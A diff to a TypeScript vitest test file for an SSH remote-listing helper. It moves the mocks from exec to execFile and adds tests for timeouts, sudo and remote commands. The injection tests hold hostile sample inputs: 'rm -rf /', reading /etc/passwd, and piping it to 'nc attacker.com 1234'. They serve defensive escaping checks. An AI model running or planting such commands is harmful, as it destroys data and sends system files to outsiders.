@@ -1,14 +1,14 @@
 import { describe, it, expect, vi, beforeEach } from "vitest";
 import { SSHHostConfig } from "../types/server";
-import { executeRemoteLs } from "./ssh";
-import { exec } from "child_process";
+import { executeRemoteLs, executeRemoteCommand } from "./ssh";
+import { execFile } from "child_process";
 
-// Mock the exec function to capture commands
+// Mock the execFile function to capture commands
 vi.mock("child_process", () => {
   const actual = vi.importActual("child_process");
   return {
     ...actual,
-    exec: vi.fn(),
+    execFile: vi.fn(),
   };
 });
 
@@ -28,11 +28,11 @@ describe("SSH Remote Listing", () => {
     it("should escape remotePath to prevent command injection", async () => {
       const maliciousPath = "/tmp/test; rm -rf /";
 
-      // Mock exec to capture the command
+      // Mock execFile to capture the command
       let capturedCommand = "";
-      (exec as any).mockImplementation(
-        (command: string, options: any, callback: any) => {
-          capturedCommand = command;
+      (execFile as any).mockImplementation(
+        (file: string, args: string[], options: any, callback: any) => {
+          capturedCommand = [file, ...args].join(" ");
           // Return success
           callback(null, { stdout: "total 0\n", stderr: "" });
         },
@@ -51,9 +51,9 @@ describe("SSH Remote Listing", () => {
       const maliciousPath = "/tmp/test | cat /etc/passwd";
 
       let capturedCommand = "";
-      (exec as any).mockImplementation(
-        (command: string, options: any, callback: any) => {
-          capturedCommand = command;
+      (execFile as any).mockImplementation(
+        (file: string, args: string[], options: any, callback: any) => {
+          capturedCommand = [file, ...args].join(" ");
           callback(null, { stdout: "total 0\n", stderr: "" });
         },
       );
@@ -72,27 +72,30 @@ describe("SSH Remote Listing", () => {
         hostName: "example.com",
       };
 
-      let capturedCommand = "";
-      (exec as any).mockImplementation(
-        (command: string, options: any, callback: any) => {
-          capturedCommand = command;
+      let capturedArgs: string[] = [];
+      (execFile as any).mockImplementation(
+        (_file: string, args: string[], _options: any, callback: any) => {
+          capturedArgs = args;
           callback(null, { stdout: "total 0\n", stderr: "" });
         },
       );
 
       await executeRemoteLs(maliciousHostConfig, "/remote/path");
 
-      // The malicious host alias should be escaped
-      expect(capturedCommand).toContain("'server; rm -rf /'");
+      // The host alias is a single argument after "--", never parsed by a shell
+      expect(capturedArgs).toContain("server; rm -rf /");
+      expect(capturedArgs[capturedArgs.indexOf("--") + 1]).toBe(
+        "server; rm -rf /",
+      );
     });
 
     it("should handle paths with spaces", async () => {
       const pathWithSpaces = "/remote/path with spaces";
 
       let capturedCommand = "";
-      (exec as any).mockImplementation(
-        (command: string, options: any, callback: any) => {
-          capturedCommand = command;
+      (execFile as any).mockImplementation(
+        (file: string, args: string[], options: any, callback: any) => {
+          capturedCommand = [file, ...args].join(" ");
           callback(null, { stdout: "total 0\n", stderr: "" });
         },
       );
@@ -109,9 +112,9 @@ describe("SSH Remote Listing", () => {
       const pathWithQuotes = "/remote/file'name.txt";
 
       let capturedCommand = "";
-      (exec as any).mockImplementation(
-        (command: string, options: any, callback: any) => {
-          capturedCommand = command;
+      (execFile as any).mockImplementation(
+        (file: string, args: string[], options: any, callback: any) => {
+          capturedCommand = [file, ...args].join(" ");
           callback(null, { stdout: "total 0\n", stderr: "" });
         },
       );
@@ -131,9 +134,9 @@ describe("SSH Remote Listing", () => {
         "/tmp/test; cat /etc/passwd | nc attacker.com 1234";
 
       let capturedCommand = "";
-      (exec as any).mockImplementation(
-        (command: string, options: any, callback: any) => {
-          capturedCommand = command;
+      (execFile as any).mockImplementation(
+        (file: string, args: string[], options: any, callback: any) => {
+          capturedCommand = [file, ...args].join(" ");
           callback(null, { stdout: "total 0\n", stderr: "" });
         },
       );
@@ -154,9 +157,9 @@ describe("SSH Remote Listing", () => {
       const tildePath = "~/Desktop/subdir";
 
       let capturedCommand = "";
-      (exec as any).mockImplementation(
-        (command: string, options: any, callback: any) => {
-          capturedCommand = command;
+      (execFile as any).mockImplementation(
+        (file: string, args: string[], options: any, callback: any) => {
+          capturedCommand = [file, ...args].join(" ");
           callback(null, { stdout: "total 0\n", stderr: "" });
         },
       );
@@ -174,9 +177,9 @@ describe("SSH Remote Listing", () => {
       const tildePath = "~";
 
       let capturedCommand = "";
-      (exec as any).mockImplementation(
-        (command: string, options: any, callback: any) => {
-          capturedCommand = command;
+      (execFile as any).mockImplementation(
+        (file: string, args: string[], options: any, callback: any) => {
+          capturedCommand = [file, ...args].join(" ");
           callback(null, { stdout: "total 0\n", stderr: "" });
         },
       );
@@ -189,4 +192,151 @@ describe("SSH Remote Listing", () => {
       expect(capturedCommand).toMatch(/~/);
     });
   });
+
+  describe("executeRemoteLs - Timeouts", () => {
+    it("should pass the connect timeout to ssh and bound the listing", async () => {
+      let capturedCommand = "";
+      let capturedOptions: any;
+      (execFile as any).mockImplementation(
+        (file: string, args: string[], options: any, callback: any) => {
+          capturedCommand = [file, ...args].join(" ");
+          capturedOptions = options;
+          callback(null, { stdout: "total 0\n", stderr: "" });
+        },
+      );
+
+      await executeRemoteLs(mockHostConfig, "/tmp", {
+        connectTimeout: 5,
+        ioTimeout: 45,
+      });
+
+      expect(capturedCommand).toContain("-o ConnectTimeout=5 --");
+      expect(capturedOptions.timeout).toBe(45000);
+    });
+
+    it("should not bound the listing when the idle timeout is disabled", async () => {
+      let capturedOptions: any;
+      (execFile as any).mockImplementation(
+        (_file: string, _args: string[], options: any, callback: any) => {
+          capturedOptions = options;
+          callback(null, { stdout: "total 0\n", stderr: "" });
+        },
+      );
+
+      await executeRemoteLs(mockHostConfig, "/tmp", { ioTimeout: 0 });
+      expect(capturedOptions.timeout).toBe(0);
+
+      await executeRemoteLs(mockHostConfig, "/tmp");
+      expect(capturedOptions.timeout).toBe(30000);
+    });
+
+    it("should state the limit when the listing times out", async () => {
+      (execFile as any).mockImplementation(
+        (_file: string, _args: string[], _options: any, callback: any) => {
+          callback(
+            Object.assign(new Error("Command failed"), { killed: true }),
+            { stdout: "", stderr: "" },
+          );
+        },
+      );
+
+      await expect(
+        executeRemoteLs(mockHostConfig, "/tmp", { ioTimeout: 20 }),
+      ).rejects.toThrow("Listing timed out after 20 seconds.");
+    });
+  });
+
+  describe("executeRemoteLs - sudo", () => {
+    it("should run ls through sudo -n after expanding ~", async () => {
+      let capturedCommand = "";
+      (execFile as any).mockImplementation(
+        (file: string, args: string[], options: any, callback: any) => {
+          capturedCommand = [file, ...args].join(" ");
+          callback(null, { stdout: "total 0\n", stderr: "" });
+        },
+      );
+
+      await executeRemoteLs(mockHostConfig, "/root", undefined, true);
+
+      expect(capturedCommand).toMatch(/esac; sudo -n ls -lAh "\$p"' _ /);
+    });
+
+    it("should not use sudo by default", async () => {
+      let capturedCommand = "";
+      (execFile as any).mockImplementation(
+        (file: string, args: string[], options: any, callback: any) => {
+          capturedCommand = [file, ...args].join(" ");
+          callback(null, { stdout: "total 0\n", stderr: "" });
+        },
+      );
+
+      await executeRemoteLs(mockHostConfig, "/root");
+
+      expect(capturedCommand).not.toContain("sudo");
+    });
+
+    it("should explain sudo password prompts", async () => {
+      (execFile as any).mockImplementation(
+        (_file: string, _args: string[], _options: any, callback: any) => {
+          callback(
+            Object.assign(new Error("Command failed"), {
+              stderr: "sudo: a password is required\n",
+              code: 1,
+            }),
+          );
+        },
+      );
+
+      await expect(
+        executeRemoteLs(mockHostConfig, "/root", undefined, true),
+      ).rejects.toThrow("sudo requires a password");
+    });
+  });
+
+  describe("executeRemoteCommand", () => {
+    it("should run the command over ssh with the host alias and connect timeout", async () => {
+      let capturedFile = "";
+      let capturedArgs: string[] = [];
+      (execFile as any).mockImplementation(
+        (file: string, args: string[], _options: any, callback: any) => {
+          capturedFile = file;
+          capturedArgs = args;
+          callback(null, { stdout: "rsync  version 3.2.7\n", stderr: "" });
+        },
+      );
+
+      const { stdout } = await executeRemoteCommand(
+        mockHostConfig,
+        "rsync --version",
+        { connectTimeout: 5 },
+      );
+
+      expect(stdout).toContain("3.2.7");
+      expect(capturedFile).toBe("ssh");
+      expect(capturedArgs.slice(2)).toEqual([
+        "-o",
+        "ConnectTimeout=5",
+        "--",
+        "testserver",
+        "rsync --version",
+      ]);
+    });
+
+    it("should reject with the execFile error", async () => {
+      (execFile as any).mockImplementation(
+        (_file: string, _args: string[], _options: any, callback: any) => {
+          callback(
+            Object.assign(new Error("Command failed"), {
+              stderr: "bash: rsync: command not found",
+              code: 127,
+            }),
+          );
+        },
+      );
+
+      await expect(
+        executeRemoteCommand(mockHostConfig, "rsync --version"),
+      ).rejects.toMatchObject({ code: 127 });
+    });
+  });
 });